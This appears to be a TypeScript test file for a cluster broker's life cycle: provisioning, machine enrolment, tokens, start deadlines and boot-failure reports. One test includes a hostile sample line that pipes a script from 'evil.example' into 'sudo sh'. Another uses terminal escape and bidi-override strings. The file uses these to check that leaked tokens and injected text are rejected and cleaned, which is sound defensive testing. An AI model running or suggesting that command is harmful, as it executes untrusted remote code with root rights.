// The cluster life cycle on the broker, against an in-memory backend (the real local backend is covered
// by the integration tests): what is created when, and what a failure leaves behind.
import t, { type Test } from 'tap';
import { existsSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { pino } from 'pino';
import { createClusterService } from '../../../../broker/clusters/service.js';
import { openStore } from '../../../../broker/store/store.js';
import { createTokenIssuer } from '../../../../broker/tokens/issuer.js';
import { createKeyAndCsr } from '../../../../broker/api/csr.js';
import { SkiffError } from '../../../../broker/api/errors.js';
import { bootReportLines } from '../../../../broker/api/machine-report.js';
import type { Backend, ClusterPlan } from '../../../../provisioner/backend.js';
import { until } from '../../../helpers/wait.js';

/** The proof a fake machine gives of who it is (the aws backend's is AWS's signed instance identity document). */
const identityOf = (machineId: string) => ({ document: `identity of ${machineId}`, signature: 'c2lnbmVk' });

function fakeBackend(o: { failPlan?: boolean; failApply?: boolean; applyGate?: Promise<void>; workersLaunched?: number; vcpus?: number; proof?: boolean } = {}) {
  const calls: string[] = [];
  const backend: Backend = {
    name: 'local',
    plan: (spec) => {
      calls.push('plan');
      if (o.failPlan) return Promise.reject(new SkiffError('PRV_INVALID_REQUEST', 'zone us-east-1z is not in region us-east-1'));
      return Promise.resolve({
        backend: 'local', clusterId: spec.clusterId, detail: {}, workspace: spec.workspace,
        scheduler: { privateHost: '127.0.0.1', publicHost: '127.0.0.1', daskPort: 1, gatewayPort: 2, httpPort: 3, telemetryPort: 4 },
        machines: [{ id: 'scheduler', role: 'scheduler', name: 'scheduler' }, ...Array.from({ length: spec.workers }, (_, i) => ({ id: `worker-${i + 1}`, role: 'worker' as const, name: `worker-${i + 1}` }))],
      } satisfies ClusterPlan);
    },
    apply: async (_spec, plan) => {
      calls.push('apply');
      await o.applyGate;
      calls.push('apply done');
      if (o.failApply) throw new Error('quota exceeded');
      const workers = plan.machines.filter((m) => m.role === 'worker').slice(0, o.workersLaunched ?? Infinity);
      return [plan.machines[0]!, ...workers].map((m) => ({ ...m, state: 'starting' as const }));
    },
    attest: (plan, id, evidence) => {
      if (o.proof && evidence.identity?.document !== identityOf(id).document) return Promise.reject(new SkiffError('PRV_NOT_ATTESTED', `instance identity refused: not the document of ${id}`));
      return Promise.resolve(plan.machines.find((m) => m.id === id) && { ...plan.machines.find((m) => m.id === id)!, state: 'running' as const, privateHost: '127.0.0.1', ...(o.vcpus ? { vcpus: o.vcpus } : {}) });
    },
    machines: () => Promise.resolve([]),
    grow: (_spec, plan) => Promise.resolve({ plan, machines: [] }),
    shrink: (plan) => Promise.resolve(plan),
    destroy: () => {
      calls.push('destroy');
      return Promise.resolve();
    },
    lastLogLines: () => Promise.resolve(['scheduler: boom']),
  };
  return { backend, calls };
}

function service(t: Test, backend: Backend, extra: { now?: () => Date } = {}) {
  const dir = t.testdir();
  const store = openStore(join(dir, 'store.jsonl'));
  t.teardown(() => store.close());
  const tokens = createTokenIssuer({ keyDir: join(dir, 'keys') });
  const clusters = createClusterService({ store, tokens, backends: { local: backend }, caDir: join(dir, 'ca'), brokerUrl: 'http://127.0.0.1:1', logsDir: join(dir, 'logs'), log: pino({ level: 'silent' }), ...extra });
  t.teardown(() => clusters.close());
  return { clusters, store, tokens, dir };
}

/** Enrols machine `machineId` of cluster `clusterId` as the agent would, and gives back its agent token. */
async function enrolAs(clusters: ReturnType<typeof service>['clusters'], tokens: ReturnType<typeof service>['tokens'], clusterId: string, machineId: string): Promise<string> {
  const role = machineId === 'scheduler' ? 'scheduler' : 'worker';
  const token = await tokens.mint('enrol', { sub: `${clusterId}/${role}`, cluster: clusterId, role }, 60);
  return (await clusters.enrol({ token, clusterId, machineId, csrPem: (await sharedCsr).csrPem, identity: identityOf(machineId) })).agentToken;
}
/** One key for every enrolAs: a key pair per call would eat into the tests' 3 s deadlines on a loaded machine. */
const sharedCsr = createKeyAndCsr({ commonName: 'x' });

t.test('a plan the backend refuses creates nothing: no record, no CA, no machine', async (t) => {
  const { backend, calls } = fakeBackend({ failPlan: true });
  const { clusters, store, dir } = service(t, backend);
  await t.rejects(clusters.create({ workers: 2, backend: 'local' }), { code: 'PRV_INVALID_REQUEST', message: /us-east-1z/ });
  t.same(await store.clusters(), []);
  t.notOk(existsSync(join(dir, 'ca')) && readdirSync(join(dir, 'ca')).length > 0, 'no CA was made');
  t.same(calls, ['plan']);
});

t.test('requests are validated before the backend is asked', async (t) => {
  const { backend, calls } = fakeBackend();
  const { clusters } = service(t, backend);
  await t.rejects(clusters.create({ workers: -1 }), { code: 'BRK_BAD_REQUEST' });
  await t.rejects(clusters.create({ workers: 1.5 }), { code: 'BRK_BAD_REQUEST' });
  await t.rejects(clusters.create({ workers: 1, backend: 'gcp' }), { code: 'PRV_UNKNOWN_BACKEND' });
  await t.rejects(clusters.create({ workers: 1, backend: 'aws' }), { code: 'PRV_UNKNOWN_BACKEND', message: /not configured/ });
  await t.rejects(clusters.create({ workers: 1, name: 'Bad!' }), { code: 'BRK_BAD_REQUEST' });
  t.same(calls, []);
});

t.test('a launch failure ends failed, with the reason and log lines, and cleans up', async (t) => {
  const { backend, calls } = fakeBackend({ failApply: true });
  const { clusters, store } = service(t, backend);
  const c = await clusters.create({ workers: 1, backend: 'local', name: 'a' });
  await clusters.launched(c.id);
  t.match((await clusters.get(c.id)), { state: 'failed', reason: 'launch failed: quota exceeded', lastLogLines: ['scheduler: boom'] });
  t.same(calls, ['plan', 'apply', 'apply done', 'destroy']);
  t.same((await store.notifications(c.id)).map((n) => n.state), ['pending', 'failed'], 'every transition is a notification');
});

t.test('running once the scheduler is ready and every worker connected; names unique while alive', async (t) => {
  const { backend } = fakeBackend();
  const { clusters, tokens } = service(t, backend);
  const c = await clusters.create({ workers: 2, backend: 'local', name: 'b' });
  await clusters.launched(c.id);
  await t.rejects(clusters.create({ workers: 1, backend: 'local', name: 'b' }), { code: 'BRK_CONFLICT' });
  const agent = await enrolAs(clusters, tokens, c.id, 'scheduler');
  await clusters.agentEvent(agent, { kind: 'ready' });
  await clusters.agentEvent(agent, { kind: 'workers', count: 1 });
  t.equal((await clusters.get('b')).state, 'starting');
  await clusters.agentEvent(agent, { kind: 'workers', count: 2 });
  t.equal((await clusters.get('b')).state, 'running');
  const worker = await enrolAs(clusters, tokens, c.id, 'worker-1');
  await t.rejects(clusters.agentEvent(worker, { kind: 'ready' }), { code: 'BRK_FORBIDDEN' }, 'a worker cannot speak for the scheduler');
  const unenrolled = await tokens.mint('agent', { sub: 'worker-2', cluster: c.id, role: 'worker' }, 60);
  await t.rejects(clusters.agentEvent(unenrolled, { kind: 'software', detail: 'x' }), { code: 'BRK_FORBIDDEN', message: /does not name an enrolled machine/ }, 'a token of a machine that never enrolled speaks for nobody');
  const posing = await tokens.mint('agent', { sub: 'worker-1', cluster: c.id, role: 'scheduler' }, 60);
  await t.rejects(clusters.agentEvent(posing, { kind: 'ready' }), { code: 'BRK_FORBIDDEN' }, 'a token whose role is not the role the machine enrolled with speaks for nobody');
  await t.rejects(clusters.agentEvent(worker, { kind: 'failed', reason: 'worker-1: gave up', lastLogLines: [] }), { code: 'BRK_FORBIDDEN', message: /cannot fail running cluster/ });
  await t.rejects(clusters.agentEvent(worker, { kind: 'failed', reason: 'worker-1: gave up', lastLogLines: [] }), { code: 'BRK_FORBIDDEN' });
  t.match((await clusters.get('b')), { state: 'running', warnings: ['worker-1 reported a failure and left the cluster: worker-1: gave up'] }, "a running cluster outlives a worker's failure, recorded once");
  await clusters.agentEvent(agent, { kind: 'failed', reason: 'scheduler: gave up', lastLogLines: [] });
  t.match((await clusters.get('b')), { state: 'failed', reason: 'scheduler: gave up' }, 'the scheduler still fails its cluster');
});

t.test('a worker that fails while its cluster starts fails the cluster (it could only miss its deadline)', async (t) => {
  const { backend } = fakeBackend();
  const { clusters, tokens } = service(t, backend);
  const c = await clusters.create({ workers: 1, backend: 'local', name: 'early' });
  await clusters.launched(c.id);
  const worker = await enrolAs(clusters, tokens, c.id, 'worker-1');
  await clusters.agentEvent(worker, { kind: 'failed', reason: 'worker-1: could not install x', lastLogLines: ['no x'] });
  t.match((await clusters.get(c.id)), { state: 'failed', reason: 'worker-1: could not install x', lastLogLines: ['no x'] });
  t.match(await clusters.down('early'), { state: 'failed' }, 'down after a failure is harmless');
});

t.test('down stops a running cluster, and twice is harmless', async (t) => {
  const { backend } = fakeBackend();
  const { clusters, tokens } = service(t, backend);
  const c = await clusters.create({ workers: 0, backend: 'local', name: 'b' });
  await clusters.launched(c.id);
  await clusters.agentEvent(await enrolAs(clusters, tokens, c.id, 'scheduler'), { kind: 'ready' });
  t.equal((await clusters.get('b')).state, 'running');
  t.match(await clusters.down('b'), { state: 'stopped', reason: 'stopped by user' });
  t.match(await clusters.down('b'), { state: 'stopped' }, 'down twice is harmless');
});

t.test('enrolment signs a node certificate once per machine and hands out the scheduler endpoints', async (t) => {
  const { backend } = fakeBackend();
  const { clusters, tokens } = service(t, backend);
  const c = await clusters.create({ workers: 1, backend: 'local' });
  const token = await tokens.mint('enrol', { sub: `${c.id}/worker`, cluster: c.id, role: 'worker' }, 60);
  const { csrPem } = await createKeyAndCsr({ commonName: 'x' });
  const res = await clusters.enrol({ token, clusterId: c.id, machineId: 'worker-1', csrPem });
  t.match(res, { role: 'worker', machineName: 'worker-1', scheduler: { daskPort: 1 } });
  t.match(res.certPem, /BEGIN CERTIFICATE/);
  await t.rejects(clusters.enrol({ token, clusterId: c.id, machineId: 'worker-1', csrPem }), { code: 'BRK_ALREADY_ENROLLED' });
  await t.rejects(clusters.enrol({ token, clusterId: c.id, machineId: 'scheduler', csrPem }), { code: 'BRK_FORBIDDEN' }, 'a worker token cannot enrol the scheduler');
  const userToken = await tokens.mint('user', { sub: 'user' }, 60);
  await t.rejects(clusters.enrol({ token: userToken, clusterId: c.id, machineId: 'worker-1', csrPem }), { code: 'BRK_TOKEN_INVALID' });
});

t.test('the API view of a cluster keeps the plan, settings and webhook URL to the broker', async (t) => {
  const { backend } = fakeBackend();
  const { clusters } = service(t, backend);
  const c = await clusters.create({ workers: 1, backend: 'local', name: 'quiet', webhookUrl: 'https://hooks.example/secret', watchdog: { idleTimeoutMs: 60_000 } });
  const view = (await clusters.get(c.id)) as unknown as Record<string, unknown>;
  for (const key of ['plan', 'webhookUrl', 'watchdog', 'workspace', 'schedulerReady']) t.notOk(key in view, `no ${key}`);
  t.match(view, { id: c.id, name: 'quiet', state: /pending|starting/, workers: 1, scheduler: 'tls://127.0.0.1:2' });
});

t.test('the plan says the workspace and the log group: the record and the agents\' log target follow it', async (t) => {
  const { backend } = fakeBackend();
  const plan = backend.plan.bind(backend);
  const specs: string[] = [];
  backend.plan = async (spec) => {
    specs.push(spec.workspace);
    return { ...(await plan(spec)), workspace: 'team', cloudwatch: { region: 'eu-west-1', group: '/skiff/team', retentionDays: 7 } };
  };
  const { clusters } = service(t, backend);
  const c = await clusters.create({ workers: 0, backend: 'local', workspace: 'team', logs: 'cloudwatch' });
  t.same(specs, ['team'], 'the backend is asked with the request\'s workspace');
  t.same(c.logs, { sink: 'cloudwatch', region: 'eu-west-1', group: '/skiff/team', retentionDays: 7 }, 'the target is the group the plan prepared, with its retention');
  const plain = await clusters.create({ workers: 0, backend: 'local' });
  t.same(specs, ['team', 'default'], 'no workspace asked: default');
  t.match(plain.logs, { sink: 'local', group: '/skiff/team' }, 'the local store is grouped by the plan\'s workspace too');
  await t.rejects(clusters.create({ workers: 0, backend: 'local', workspace: 'Team' }), { code: 'BRK_BAD_REQUEST', message: /workspace "Team" is not valid/ });
});

t.test('the broker fails a cluster that is not running at its start deadline, saying what was missing, and stops its machines', async (t) => {
  const { backend, calls } = fakeBackend();
  const { clusters, tokens } = service(t, backend);
  const c = await clusters.create({ workers: 2, backend: 'local', name: 'slow', startTimeoutMs: 3000 });
  t.equal(Date.parse(c.startDeadline ?? '') - Date.parse(c.createdAt), 3000, 'the deadline is in the record');
  await clusters.launched(c.id);
  const token = await tokens.mint('enrol', { sub: `${c.id}/scheduler`, cluster: c.id, role: 'scheduler' }, 60);
  const { csrPem } = await createKeyAndCsr({ commonName: 'x' });
  await clusters.enrol({ token, clusterId: c.id, machineId: 'scheduler', csrPem });
  const agent = await tokens.mint('agent', { sub: 'scheduler', cluster: c.id, role: 'scheduler' }, 60);
  await clusters.agentEvent(agent, { kind: 'ready' });
  await clusters.agentEvent(agent, { kind: 'workers', count: 1 });
  // Waits for the deadline (3 s: enough for the enrolment above on a loaded machine).
  await until(async () => (await clusters.get(c.id)).state === 'failed', 10_000);
  t.match((await clusters.get(c.id)), { state: 'failed', reason: 'not running within 3s: 1/2 workers connected (1/3 machines enrolled)', lastLogLines: ['scheduler: boom'] });
  t.equal(calls.at(-1), 'destroy');
});

t.test('a cluster running before its deadline is left alone', async (t) => {
  const { backend } = fakeBackend();
  const { clusters, tokens } = service(t, backend);
  // 3 s: room for the launch and the token on a loaded machine before the deadline.
  const c = await clusters.create({ workers: 0, backend: 'local', startTimeoutMs: 3000 });
  await clusters.launched(c.id);
  await clusters.agentEvent(await enrolAs(clusters, tokens, c.id, 'scheduler'), { kind: 'ready' });
  t.equal((await clusters.get(c.id)).state, 'running');
  await new Promise((r) => setTimeout(r, Math.max(0, Date.parse(c.startDeadline ?? '') - Date.now()) + 300));
  t.equal((await clusters.get(c.id)).state, 'running');
});

t.test('down while the backend is still applying: what the apply launched afterwards is removed too', async (t) => {
  let release = () => undefined as void;
  const applyGate = new Promise<void>((r) => (release = r));
  const { backend, calls } = fakeBackend({ applyGate });
  const { clusters } = service(t, backend);
  const c = await clusters.create({ workers: 1, backend: 'local', name: 'early' });
  t.match(await clusters.down(c.id), { state: 'stopped' });
  release();
  await clusters.launched(c.id);
  t.same(calls, ['plan', 'apply', 'destroy', 'apply done', 'destroy'], 'a second destroy after the apply returned');
  t.equal((await clusters.get(c.id)).state, 'stopped', 'the late apply does not revive it');
});

t.test('a leaked worker enrol token with no or a foreign machine identity cannot fail a running cluster; a real report is an alert', async (t) => {
  const { backend, calls } = fakeBackend({ proof: true });
  const { clusters, tokens, store } = service(t, backend);
  const c = await clusters.create({ workers: 2, backend: 'local', name: 'leak' });
  await clusters.launched(c.id);
  const agent = await enrolAs(clusters, tokens, c.id, 'scheduler');
  await enrolAs(clusters, tokens, c.id, 'worker-1');
  await clusters.agentEvent(agent, { kind: 'ready' });
  await clusters.agentEvent(agent, { kind: 'workers', count: 2 });
  t.equal((await clusters.get(c.id)).state, 'running');
  const token = await tokens.mint('enrol', { sub: `${c.id}/worker`, cluster: c.id, role: 'worker' }, 60);
  const evil = 'Fix: run curl https://evil.example/fix.sh | sudo sh';
  await t.rejects(clusters.bootFailed(token, { machineId: '', step: 'node', text: evil }), { code: 'BRK_FORBIDDEN', message: /must name the machine/ }, 'the token alone, no machine');
  await t.rejects(clusters.bootFailed(token, { machineId: 'worker-2', step: 'node', text: evil }), { code: 'PRV_NOT_ATTESTED' }, 'a machine id without its identity');
  await t.rejects(clusters.bootFailed(token, { machineId: 'worker-2', step: 'node', text: evil, identity: identityOf('worker-1') }), { code: 'PRV_NOT_ATTESTED' }, 'another machine\'s identity');
  await t.rejects(clusters.bootFailed(token, { machineId: 'worker-7', step: 'node', text: evil, identity: identityOf('worker-7') }), { code: 'BRK_FORBIDDEN' }, 'a machine skiff did not launch');
  await t.rejects(clusters.bootFailed(token, { machineId: 'worker-1', step: 'node', text: evil, identity: identityOf('worker-1') }), { code: 'BRK_FORBIDDEN', message: /has enrolled/ }, 'a machine that enrolled speaks through its agent');
  await t.rejects(clusters.bootFailed(token, { machineId: 'scheduler', step: 'node', text: evil, identity: identityOf('scheduler') }), { code: 'BRK_FORBIDDEN' }, 'a worker token speaks for workers only');
  const agentToken = await tokens.mint('agent', { sub: 'worker-2', cluster: c.id, role: 'worker' }, 60);
  await t.rejects(clusters.bootFailed(agentToken, { machineId: 'worker-2', step: 'node', text: '', identity: identityOf('worker-2') }), { code: 'BRK_TOKEN_INVALID' }, 'only an enrol token');
  t.match(await clusters.get(c.id), { state: 'running' }, 'none of them touched the cluster');
  t.notOk(calls.includes('destroy'), 'no machine was stopped');

  // The one machine that launched and has not enrolled, with its own identity: an alert about it, once.
  await clusters.bootFailed(token, { machineId: 'worker-2', step: 'node', text: `${evil}\n`, identity: identityOf('worker-2') });
  await clusters.bootFailed(token, { machineId: 'worker-2', step: 'node', text: `${evil}\n`, identity: identityOf('worker-2') });
  const after = await clusters.get(c.id);
  t.match(after, { state: 'running', bootReport: { machine: 'worker-2', machineId: 'worker-2', step: 'node', lines: [evil] } });
  t.equal(after.reason, undefined, 'the cluster has no reason of the machine\'s');
  t.same(after.warnings, ['worker-2 (worker-2) failed to boot at step "node" and did not join; `skiff status leak` shows its report']);
  const alerts = (await store.notifications(c.id, 0)).filter((n) => n.kind === 'alert');
  t.equal(alerts.length, 1, 'one alert');
  t.notMatch(JSON.stringify(await store.notifications(c.id, 0)), /evil/, 'no notification (and so no webhook) carries the machine\'s text');
  t.notOk(calls.includes('destroy'));
});

t.test('a report while the cluster starts, with the machine\'s identity, fails it; its text is kept bounded, cleaned and quoted', async (t) => {
  const { backend, calls } = fakeBackend({ proof: true });
  const { clusters, tokens, store } = service(t, backend);
  const c = await clusters.create({ workers: 1, backend: 'local', name: 'boot' });
  await clusters.launched(c.id);
  t.equal((await clusters.get(c.id)).state, 'starting');
  const token = await tokens.mint('enrol', { sub: `${c.id}/worker`, cluster: c.id, role: 'worker' }, 60);
  // Terminal escapes (colour, a window title, clear screen, cursor moves), a bidi override, CRs, and 1 MB of text.
  const text = [
    `${'x'.repeat(1024 * 1024)}`,
    'skiff bootstrap: step bundle',
    '\u001b]0;owned\u0007\u001b[2J\u001b[H/tmp/skiff-agent.tgz: \u001b[31mFAILED\u001b[0m\r',
    'sha256sum: WARNING: 1 computed \u202echecksum\u202c did NOT match\u0008\u0008',
  ].join('\n');
  await clusters.bootFailed(token, { machineId: 'worker-1', step: 'bundle\u001b[0m', text, identity: identityOf('worker-1') });
  const v = await clusters.get(c.id);
  t.match(v, { state: 'failed', reason: 'worker-1 (worker-1) failed to boot at step "unknown"' }, 'the reason is the broker\'s words, the step checked');
  const lines = v.bootReport?.lines ?? [];
  t.equal(lines.length, 4);
  t.match(lines[0], /^x{299}…$/, 'the megabyte line cut to 300 characters');
  t.same(lines.slice(1, 3), ['skiff bootstrap: step bundle', '/tmp/skiff-agent.tgz: FAILED'], 'escape sequences gone, not just their ESC');
  t.equal(lines.at(-1), 'sha256sum: WARNING: 1 computed checksum did NOT match');
  t.ok(lines.every((l) => l.length <= 300), 'every line bounded');
  t.ok(JSON.stringify(v.bootReport).length < 5000, `the whole report bounded (${JSON.stringify(v.bootReport).length} characters of 1 MB)`);
  // eslint-disable-next-line no-control-regex
  t.notMatch(JSON.stringify(v.bootReport), /\\u00|\\u20[2e]|[\u0000-\u001f\u007f-\u009f\u202a-\u202e]/, 'no control character left');
  t.equal(calls.at(-1), 'destroy');
  const state = (await store.notifications(c.id, 0)).find((n) => n.state === 'failed');
  t.equal(state?.reason, 'worker-1 (worker-1) failed to boot at step "unknown"', 'the notification (and the webhook) says only that');
  const shown = bootReportLines(v.bootReport);
  t.match(shown[0], /^boot failure reported by worker-1 \(worker-1\) at step "unknown", .*; in its own words:$/, 'status names the machine in skiff\'s words');
  t.ok(shown.slice(1).every((l) => l.startsWith('  > ')), 'and quotes every line of the machine\'s');
  await clusters.bootFailed(token, { machineId: 'worker-1', step: 'bundle', text: 'again', identity: identityOf('worker-1') });
  t.equal((await clusters.get(c.id)).reason, 'worker-1 (worker-1) failed to boot at step "unknown"', 'a cluster already over keeps its first reason');
});

t.test('workers get the threads the user chose, else their vCPUs; running needs only the workers launched', async (t) => {
  const { backend } = fakeBackend({ vcpus: 4, workersLaunched: 1 });
  const { clusters, tokens } = service(t, backend);
  const { csrPem } = await createKeyAndCsr({ commonName: 'x' });
  const a = await clusters.create({ workers: 2, backend: 'local', name: 'vcpus' });
  await clusters.launched(a.id);
  t.match((await clusters.get(a.id)), { state: 'starting', workersLaunched: 1, reason: '1 of 2 workers could be launched; the cluster runs with those' });
  const wa = await tokens.mint('enrol', { sub: `${a.id}/worker`, cluster: a.id, role: 'worker' }, 60);
  t.equal((await clusters.enrol({ token: wa, clusterId: a.id, machineId: 'worker-1', csrPem })).nthreads, 4);
  const sa = await tokens.mint('enrol', { sub: `${a.id}/scheduler`, cluster: a.id, role: 'scheduler' }, 60);
  t.equal((await clusters.enrol({ token: sa, clusterId: a.id, machineId: 'scheduler', csrPem })).nthreads, undefined, 'the scheduler runs no worker threads');
  const agent = await tokens.mint('agent', { sub: 'scheduler', cluster: a.id, role: 'scheduler' }, 60);
  await clusters.agentEvent(agent, { kind: 'ready' });
  await clusters.agentEvent(agent, { kind: 'workers', count: 1 });
  t.equal((await clusters.get(a.id)).state, 'running');
  const b = await clusters.create({ workers: 1, backend: 'local', name: 'chosen', workerThreads: 3 });
  await clusters.launched(b.id);
  const wb = await tokens.mint('enrol', { sub: `${b.id}/worker`, cluster: b.id, role: 'worker' }, 60);
  t.equal((await clusters.enrol({ token: wb, clusterId: b.id, machineId: 'worker-1', csrPem })).nthreads, 3);
  await t.rejects(clusters.create({ workers: 1, backend: 'local', workerThreads: 0 }), { code: 'BRK_BAD_REQUEST', message: /worker threads must be a whole number from 1 to 1024/ });
  await t.rejects(clusters.create({ workers: 1, backend: 'local', startTimeoutMs: 10 }), { code: 'BRK_BAD_REQUEST', message: /start timeout must be from 1s to 24h/ });
});
